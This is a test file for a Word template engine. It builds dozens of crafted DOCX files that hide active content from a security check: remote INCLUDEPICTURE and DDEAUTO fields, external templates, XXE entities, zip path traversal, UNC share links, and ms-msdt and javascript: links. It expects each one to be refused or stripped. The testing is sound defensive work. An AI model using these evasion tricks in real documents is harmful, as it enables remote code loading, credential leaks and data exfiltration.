import { gzipSync } from 'node:zlib';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { afterAll, describe, expect, it } from 'vitest';
import { TemplateThread } from '#main/engine/templates/template-thread.ts';
import { faultLog } from '../../../support/fault-log.ts';
import { makeDocx, paragraph, textsOf } from '../../../support/word-documents.ts';

/*
 * Ways around the check of templates: what is active stands where the check might not look, or under a
 * name that it takes for something else. Each document is refused, or is filled without it.
 */

const thread = new TemplateThread(faultLog);
afterAll(() => thread.end());

const away = 'canary.invalid';
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const packageRelations = 'http://schemas.openxmlformats.org/package/2006/relationships';
const compatibility = 'http://schemas.openxmlformats.org/markup-compatibility/2006';
const body = paragraph('{case.key}');

const relation = (type: string, target: string, isExternal = true) =>
  `<Relationship Id="x" Type="${office}/${type}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/>`;
const field = (code: string, element = 'instrText') =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:${element}>${code}</w:${element}></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const header = (content: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><w:hdr xmlns:w="${word}" xmlns:r="${office}">${content}</w:hdr>`;
const shown = `<w:sectPr><w:headerReference w:type="default" r:id="x"/></w:sectPr>`;
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const words = (text: string, element = 'instrText') =>
  `<w:r><w:${element} xml:space="preserve">${text}</w:${element}></w:r>`;
/** One text for programs that know a future namespace, and one for all others, which are all. */
const choice = (first: string, other: string) =>
  `<mc:AlternateContent xmlns:mc="${compatibility}"><mc:Choice xmlns:n="${future}" Requires="n">${first}</mc:Choice><mc:Fallback>${other}</mc:Fallback></mc:AlternateContent>`;
const future = 'http://schemas.microsoft.com/office/word/2099/wordml';
const strict = 'http://purl.oclc.org/ooxml';
const picture = ` INCLUDEPICTURE "http://${away}/p.png"`;
const active = field(` INCLUDETEXT "http://${away}/x"`);
const drawing = (blip: string) =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="p"><a:blip ${blip}/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
const vml = (inner: string) =>
  `<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">${inner}</w:pict></w:r></w:p>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://${away}/p.png" width="9" height="9"/></svg>`;

function changed(
  docx: Uint8Array,
  change: Readonly<Record<string, (text: string) => string>>,
): Uint8Array<ArrayBuffer> {
  const parts: Record<string, Uint8Array> = unzipSync(docx);
  for (const [name, act] of Object.entries(change))
    parts[name] = strToU8(act(strFromU8(parts[name] ?? new Uint8Array())));
  return Uint8Array.from(zipSync(parts));
}
const declared = (docx: Uint8Array, declaration: string) =>
  changed(docx, {
    '[Content_Types].xml': (types) => types.replace(/(<Types[^>]*>)/, `$1${declaration}`),
  });
const withHeader = (target: string, declaration = '') =>
  declared(
    makeDocx(body + shown, {
      relations: relation('header', target, false),
      more: { [`word/${target}`]: header(active) },
    }),
    declaration,
  );
/** A member of the archive twice: readers disagree about which one counts. */
function twice(docx: Uint8Array, name: string, content: string): Uint8Array<ArrayBuffer> {
  const other = name.replace(/.$/, '_');
  const bytes = Buffer.from(zipSync({ ...unzipSync(docx), [other]: strToU8(content) }));
  for (let at = bytes.indexOf(other); at >= 0; at = bytes.indexOf(other, at + 1))
    bytes.write(name, at);
  return Uint8Array.from(bytes);
}
/** As if encrypted, by the flag of each member (APPNOTE 4.4.4). */
function encrypted(docx: Uint8Array): Uint8Array<ArrayBuffer> {
  const bytes = Buffer.from(docx);
  for (const [sign, flag] of [
    ['PK\u0003\u0004', 6],
    ['PK\u0001\u0002', 8],
  ] as const)
    for (let at = bytes.indexOf(sign); at >= 0; at = bytes.indexOf(sign, at + 1)) {
      bytes.writeUInt16LE(bytes.readUInt16LE(at + flag) | 1, at + flag);
      bytes[at + 60] = (bytes[at + 60] ?? 0) ^ 0x55;
    }
  return Uint8Array.from(bytes);
}

const documents: [string, Uint8Array<ArrayBuffer>][] = [
  [
    'a header that is declared as a picture',
    withHeader('h.xml', '<Override PartName="/word/h.xml" ContentType="image/png"/>'),
  ],
  [
    'headers whose ending is declared as a font',
    withHeader('h.fnt', '<Default Extension="fnt" ContentType="application/x-font-ttf"/>'),
  ],
  ['a header among the data of content controls', withHeader('customXml/h.xml')],
  [
    'a header that begins like a picture',
    makeDocx(body + shown, {
      relations: relation('header', 'h.xml', false),
      more: { 'word/h.xml': `BM${header(active)}` },
    }),
  ],
  [
    'a picture by the relation of a link',
    makeDocx(body + drawing('r:link="x"'), {
      relations: relation('hyperlink', `http://${away}/p.png`),
    }),
  ],
  [
    'an old drawing by the relation of a link',
    makeDocx(body + vml('<v:shape><v:imagedata r:id="x"/></v:shape>'), {
      relations: relation('hyperlink', `http://${away}/p.png`),
    }),
  ],
  [
    'a filling by the relation of a link',
    makeDocx(body + vml('<v:rect><v:fill r:id="x" type="frame"/></v:rect>'), {
      relations: relation('hyperlink', `http://${away}/p.png`),
    }),
  ],
  [
    'a packed drawing of the web that is called a metafile',
    makeDocx(body + drawing('r:embed="x"'), {
      relations: relation('image', 'media/a.emz', false),
      more: { 'word/media/a.emz': new Uint8Array(gzipSync(svg)) },
    }),
  ],
  [
    'a relation within a choice of relations',
    changed(
      makeDocx(body + drawing('r:link="y"'), { relations: relation('image', 'a.png', false) }),
      {
        'word/_rels/document.xml.rels': () =>
          `<Relationships xmlns="${packageRelations}"><mc:AlternateContent xmlns:mc="${compatibility}"><mc:Choice Requires="mc"><Relationship Id="y" Type="${office}/image" Target="http://${away}/p.png" TargetMode="External"/></mc:Choice></mc:AlternateContent></Relationships>`,
      },
    ),
  ],
  [
    'macros that are declared within a choice of types',
    declared(
      makeDocx(body, { more: { 'word/x.bin': away } }),
      `<mc:AlternateContent xmlns:mc="${compatibility}"><mc:Choice Requires="mc"><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></mc:Choice></mc:AlternateContent>`,
    ),
  ],
  ['a field that was deleted', makeDocx(body + field(` DDEAUTO "${away}" x`, 'delInstrText'))],
  [
    'a field behind another one that has no end',
    makeDocx(
      `${body}<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>${active}`,
    ),
  ],
  [
    'a field in the result of a page number',
    makeDocx(
      `${body}<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${active.slice(5, -6)}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
    ),
  ],
  [
    'a field in lower case, with a tab',
    makeDocx(body + field(`\tincludepicture "http://${away}/p.png"`)),
  ],
  [
    'a field in the copy for older programs',
    makeDocx(
      `${body}<mc:AlternateContent><mc:Choice Requires="wps"><w:p/></mc:Choice><mc:Fallback>${active}</mc:Fallback></mc:AlternateContent>`,
    ),
  ],
  [
    'a field whose instruction stands as text',
    makeDocx(`${body}<w:p>${mark('begin')}${words(picture, 't')}${mark('end')}</w:p>`),
  ],
  [
    'a field whose instruction is written in symbols',
    makeDocx(
      `${body}<w:p>${mark('begin')}<w:r>${Array.from(
        `INCLUDEPICTURE "http://${away}/p.png"`,
        (sign) =>
          `<w:sym w:font="${away}" w:char="${sign.charCodeAt(0).toString(16).padStart(4, '0')}"/>`,
      ).join('')}</w:r>${mark('end')}</w:p>`,
    ),
  ],
  [
    'a field behind the one that no program reads',
    makeDocx(
      `${body}<w:p>${mark('begin')}${choice(words(' PAGE '), words(picture))}${mark('end')}</w:p>`,
    ),
  ],
  [
    'a field that is its result for no program',
    makeDocx(
      `${body}<w:p>${mark('begin')}${choice(words(' PAGE ') + mark('separate'), '')}${words(picture, 't')}${mark('end')}</w:p>`,
    ),
  ],
  [
    'a field that begins in a choice',
    makeDocx(
      `${body}<w:p>${choice(mark('begin') + words(' PAGE ') + mark('separate'), mark('begin'))}${words(picture, 't')}${mark('end')}</w:p>`,
    ),
  ],
  [
    'a field behind an element that every program skips',
    makeDocx(
      `${body}<w:p>${mark('begin')}<n:a xmlns:n="${future}">${words(' PAGE ')}</n:a>${words(picture)}${mark('end')}</w:p>`,
    ),
  ],
  [
    'a field whose instruction a simple field computes',
    makeDocx(
      `${body}<w:p>${mark('begin')}<w:fldSimple w:instr=" QUOTE &quot;INCLUDEPICTURE http://${away}/p.png&quot;"/>${mark('end')}</w:p>`,
    ),
  ],
  [
    'a field whose instruction stands in a text box',
    makeDocx(
      `${body}<w:p>${mark('begin')}<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent><w:p>${words(picture, 't')}</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>${mark('end')}</w:p>`,
    ),
  ],
  [
    'a link to a file behind its tip',
    makeDocx(body + field(` HYPERLINK \\o "x" "file:///${away}/x.exe"`)),
  ],
  ['a link to a share without quotes', makeDocx(body + field(` HYPERLINK \\\\${away}\\x.exe`))],
  [
    'a picture by the relation of a link, in the namespace of Strict documents',
    makeDocx(body + drawing(`xmlns:s="${strict}/officeDocument/relationships" s:link="x"`), {
      relations: relation('hyperlink', `http://${away}/p.png`),
    }),
  ],
  [
    'a header of a Strict document, as the data of a content control',
    makeDocx(body + shown, {
      relations: relation('customXml', '../customXml/item1.xml', false),
      more: {
        'customXml/item1.xml': `<s:hdr xmlns:s="${strict}/wordprocessingml/main"><s:p><s:fldSimple s:instr="${picture.replaceAll('"', '&quot;')}"/></s:p></s:hdr>`,
      },
    }),
  ],
  [
    'the address of a smart tag',
    makeDocx(body, {
      relations: relation('settings', 'settings.xml', false),
      more: {
        'word/settings.xml': `<w:settings xmlns:w="${word}"><w:smartTagType w:namespaceuri="u" w:name="n" w:url="http://${away}/"/></w:settings>`,
      },
    }),
  ],
  [
    'a field in the text of a style',
    makeDocx(body, {
      relations: relation('styles', 's.xml', false),
      more: {
        'word/s.xml': `<w:styles xmlns:w="${word}" xmlns:z="urn:z"><z:x from="${away}"/><w:style><w:rPr><z:y a="${away}"/></w:rPr></w:style></w:styles>`,
      },
    }),
  ],
  [
    'data of a content control with a document type',
    makeDocx(body, {
      relations: relation('customXml', '../customXml/item1.xml', false),
      more: {
        'customXml/item1.xml': `<!DOCTYPE a [<!ENTITY b SYSTEM "http://${away}/">]><a>&b;</a>`,
      },
    }),
  ],
  ['an archive that has its text twice', twice(makeDocx(body), 'word/document.xml', away)],
  [
    'an archive with a path that leads out of it',
    makeDocx(body, {
      relations: relation('header', '../../../../etc/h.xml', false),
      more: { '../../etc/h.xml': header(active), '/etc/passwd': away },
    }),
  ],
  ['an encrypted archive', encrypted(makeDocx(body + active))],
  [
    'an archive in an archive, a million times as large',
    makeDocx(body, { more: { 'word/media/a.xml': new Uint8Array(40 * 1024 * 1024) } }),
  ],
  [
    'a document of Office before 2007',
    Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Uint8Array(600)]),
  ],
  [
    'settings that name a template elsewhere',
    makeDocx(body, {
      relations: relation('settings', 'settings.xml', false),
      more: {
        'word/settings.xml': `<w:settings xmlns:w="${word}" xmlns:r="${office}"><w:attachedTemplate r:id="t"/><w:saveThroughXslt r:id="t"/></w:settings>`,
        'word/_rels/settings.xml.rels': `<Relationships xmlns="${packageRelations}"><Relationship Id="t" Type="${office}/attachedTemplate" Target="http://${away}/t.dotm" TargetMode="External"/></Relationships>`,
      },
    }),
  ],
  [
    'a share to which each link belongs that is no whole address',
    makeDocx(body, {
      relations: relation('extended-properties', '../docProps/app.xml', false),
      more: {
        'docProps/app.xml': `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><HyperlinkBase>\\\\${away}\\x\\</HyperlinkBase></Properties>`,
      },
    }),
  ],
  [
    'a list of addresses behind the text',
    makeDocx(body, {
      relations: relation('oleObject', `file:///${away}/a.xls`),
    }),
  ],
];

const data = { language: 'de', values: { 'case.key': 'K-1' }, lists: {}, pictures: [] } as const;
const refusals = [
  'template_active',
  'template_macros',
  'template_damaged',
  'template_too_large',
  'template_other_format',
];

describe('what stands where the check might not look is refused, or gone', () => {
  it.each(documents)('%s', async (_, bytes) => {
    const refusal: unknown = await thread.check('t.docx', Uint8Array.from(bytes)).then(
      () => null,
      (error: unknown) => error,
    );
    const filled = refusal === null ? await thread.fill('t.docx', bytes, data) : null;
    const parts = filled === null ? [] : Object.entries(unzipSync(filled));
    const left = parts.filter(
      ([name, part]) => (name + strFromU8(part, true)).includes(away) || part[0] === 0x1f,
    );
    expect(left.map(([name]) => name)).toEqual([]);
    expect(filled === null ? ['K-1'] : textsOf(filled)).toContain('K-1');
    expect(
      refusal === null
        ? 'template_active'
        : (refusal as { params?: { rule?: string } }).params?.rule,
    ).toSatisfy((rule: string) => refusals.includes(rule));
  });

  it.each(['file:///c:/x.exe', `\\\\${away}\\share`, 'javascript:alert(1)', 'ms-msdt:/id x'])(
    'a link that a text of the insurer makes: %s',
    async (address) => {
      const docx = makeDocx(
        `<w:p><w:hyperlink r:id="x"><w:r><w:t>{case.key}</w:t></w:r></w:hyperlink></w:p>`,
        { relations: relation('hyperlink', '{insured.email}') },
      );
      const values = { ...data.values, 'insured.email': address };
      const filled = await thread.fill('t.docx', docx, { ...data, values });
      const relations = strFromU8(
        unzipSync(filled)['word/_rels/document.xml.rels'] ?? new Uint8Array(),
      );
      expect(decodeURIComponent(relations)).not.toContain(address.slice(0, 6));
      expect(textsOf(filled)).toContain('K-1');
    },
  );
});
